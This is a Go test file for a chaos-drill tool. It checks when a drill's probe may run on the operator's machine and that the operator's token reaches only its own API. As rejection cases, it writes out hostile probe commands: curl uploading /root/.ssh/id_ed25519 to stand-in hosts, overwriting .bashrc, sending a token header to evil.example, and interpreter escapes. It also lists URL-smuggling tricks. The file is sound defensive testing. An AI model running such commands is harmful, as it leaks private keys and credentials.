package chaos

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
)

// hereDrill is a drill whose proof of recovery runs argv on the operator's machine.
func hereDrill(id, argv string) string {
	return strings.NewReplacer("ID", id, "ARGV", argv).
		Replace(`metadata: {id: ID, title: x, severity: P2, owner: us, runbook: x}
target: {role: node, maxNodes: 1}
guards: {ttl: 2m}
faults: [{id: motd, kind: net-block, params: {to: ["${api_address}"], ports: ["${api_port}"], verdict: drop}}]
verifyInjected:
  probe: [nc, "-z", "${api_address}", "${api_port}"]
  from: node
  expect: {exit: [1]}
  within: 10s
  control: {probe: [systemctl, is-active, "${agent_unit}"], from: node, expect: {}, within: 5s}
expect:
  blame: {hop: [node_runtime_api_reachability], signal: [node_agent_api_unreachable]}
  detectWithin: 30s
  sameCorrelationId: true
recovery:
  green: 2
  within: 60s
  proof: {probe: [ARGV], from: operator, expect: {}, within: 10s}
  residue: none
evidence: [x]
`)
}

// TestWhoseDrill: a drill's programs run on the operator's machine only if no user except root and the operator
// could have written its file, or if the operator confirms by its digest that he has read it.
func TestWhoseDrill(t *testing.T) {
	text := hereDrill("ours", `curl, "-s", "http://192.0.2.1/"`)
	for name, c := range map[string]struct {
		file, folder os.FileMode
		owner        int
		says         string // "": it may
	}{
		"ours":               {0o644, 0o755, -1, ""},
		"others write it":    {0o646, 0o755, -1, "ours.yaml can be written by others (mode 0646)"},
		"others replace it":  {0o644, 0o777, -1, "can be written by others (mode 0777)"},
		"in a sticky folder": {0o644, 0o777 | os.ModeSticky, -1, ""},
		"another user's":     {0o644, 0o755, 12345, "ours.yaml belongs to user 12345"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "drills")
			path := filepath.Join(dir, "ours.yaml")
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			if c.owner >= 0 {
				if os.Geteuid() != 0 {
					t.Skip("skipped: gives a file to another user, which root alone may")
				}
				if err := os.Chown(path, c.owner, -1); err != nil {
					t.Fatal(err)
				}
			}
			for p, mode := range map[string]os.FileMode{path: c.file, dir: c.folder} {
				if err := os.Chmod(p, mode); err != nil {
					t.Fatal(err)
				}
			}
			for _, name := range []string{path, dir} { // as a file, and with its folder
				all, err := Find(fstest.MapFS{}, name)
				if err != nil || len(all) != 1 {
					t.Fatal(all, err)
				}
				s := all[0]
				err = s.MayRunLocally(nil)
				if c.says == "" {
					if err != nil {
						t.Error(err)
					}
					continue
				}
				want := "--trust " + s.File + "@" + s.Source.SHA256
				if err == nil || !strings.Contains(err.Error(), c.says) ||
					!strings.Contains(err.Error(), "it runs curl on this machine") || !strings.Contains(err.Error(), want) {
					t.Errorf("%v, want %q", err, c.says)
				}
				if err := s.MayRunLocally([]string{s.File + "@" + s.Source.SHA256}); err != nil {
					t.Errorf("trusted: %v", err)
				}
				if err := s.MayRunLocally([]string{s.File + "@00"}); err == nil ||
					!strings.Contains(err.Error(), "not the text that --trust names") {
					t.Errorf("another text was trusted: %v", err)
				}
				if err := s.MayRunLocally([]string{"other.yaml@" + s.Source.SHA256}); err == nil {
					t.Error("another file was trusted")
				}
			}
		})
	}
	s, err := Parse("ours.yaml", []byte(text))
	if err != nil || s.MayRunLocally(nil) == nil {
		t.Errorf("text of unknown origin may run programs here: %v", err)
	}
	all, err := Find(fstest.MapFS{"ours.yaml": {Data: []byte(text)}}, "ours")
	if err != nil || all[0].MayRunLocally(nil) != nil {
		t.Errorf("a built-in one: %v, %v", err, all)
	}
}

// TestLooksFromHere: the check of a file rejects programs that a probe on the operator's machine does not need.
func TestLooksFromHere(t *testing.T) {
	for argv, want := range map[string]string{
		`curl, "-s", "-o", /dev/null, "-m", "3", "-w", "http %{http_code}", "--cacert", "${operator_ca}", "${edge_api_url}/healthz"`: "",
		`curl, "-sk", "https://192.0.2.1/"`:                        "",
		`nc, "-z", 192.0.2.1, "22"`:                                "",
		`curl, "-T", /root/.ssh/id_ed25519, "http://192.0.2.66/"`:  "option -T may do more than look",
		`curl, "-sT", /root/.ssh/id_ed25519, "http://192.0.2.66/"`: "option -sT may do more than look",
		`curl, "--upload-file=x", "http://192.0.2.66/"`: "option --upload-file=x may do more " +
			"than look",
		`curl, "-d", "@/root/.ssh/id_ed25519", "http://192.0.2.66/"`:   "option -d @/root/.ssh/id_ed25519 reads a file",
		`curl, "-F", "x=@/root/.ssh/id_ed25519", "http://192.0.2.66/"`: "option -F may do more than look",
		`curl, "-K", /tmp/x`:                                                          "option -K may do more than look",
		`curl, "-o", /root/.bashrc, "http://192.0.2.66/"`:                             "writes a file",
		`curl, "-w", "%output{/root/.bashrc}x", "http://192.0.2.66/"`:                 "writes a file",
		`curl, "-H", "@/run/gpuaasctl-1-x-header", "http://192.0.2.66/"`:              "reads a file",
		`curl, "file:///root/.ssh/id_ed25519"`:                                        "want http, https or telnet",
		`timeout, "5", curl, "-T", x, "http://192.0.2.66/"`:                           "option -T may do more than look",
		`python3, "-c", "import os"`:                                                  "not one that runs other programs",
		`/usr/bin/python3.13, "-c", "import os"`:                                      "not one that runs other programs",
		`env, perl, "-e", "system(1)"`:                                                "not one that runs other programs",
		`timeout, "5", awk, "BEGIN { system(1) }"`:                                    "not one that runs other programs",
		`find, /, "-exec", cat, "{}", "+"`:                                            "not one that runs other programs",
		`curl, "-H", "@/run/gpuaasctl-${run}-queue-header", "http://evil.example/"`:   "the operator's token is sent there",
		`curl, "-H", "@/run/gpuaasctl-${run}-queue-header", "evil.example"`:           "the operator's token is sent there",
		`curl, "-H", "@/run/gpuaasctl-${run}-queue-header", "http://127.0.0.1@evil/"`: "the operator's token is sent there",
		`cat, "/run/gpuaasctl-${run}-queue-header"`:                                   "only curl may read it",
	} {
		_, err := Parse("ours.yaml", []byte(hereDrill("ours", argv)))
		if (want == "" && err != nil) || (want != "" && (err == nil || !strings.Contains(err.Error(), want))) {
			t.Errorf("[%s]: %v, want %q", argv, err, want)
		}
	}
}

// TestWhoseAPI: the operator's token is sent only to the profile's API or to the platform's own machine.
func TestWhoseAPI(t *testing.T) {
	const profiles = "https://api.example.test"
	for base, want := range map[string]bool{
		"http://127.0.0.1:8080": true, "http://127.0.0.1:8080/": true, "https://127.8.8.8": true, "http://[::1]:8080": true,
		profiles: true, profiles + "/": true,
		"http://evil.example:9": false, "http": false, "http://localhost:8080": false, "http://127.0.0.1.evil.example": false,
		"http://127.0.0.1:8080@evil.example": false, "http://127.0.0.1:8080/x": false, profiles + ".evil.example": false,
		"": false,
		"http://127.0.0.1:8080 http://evil.example": false, "http://127.0.0.1\n": false, "file:///etc/passwd": false,
	} {
		if got := ownAPI(base, profiles); got != want {
			t.Errorf("%q: %v", base, got)
		}
	}
	if ownAPI("", "") {
		t.Error("a profile without an API has none")
	}
}
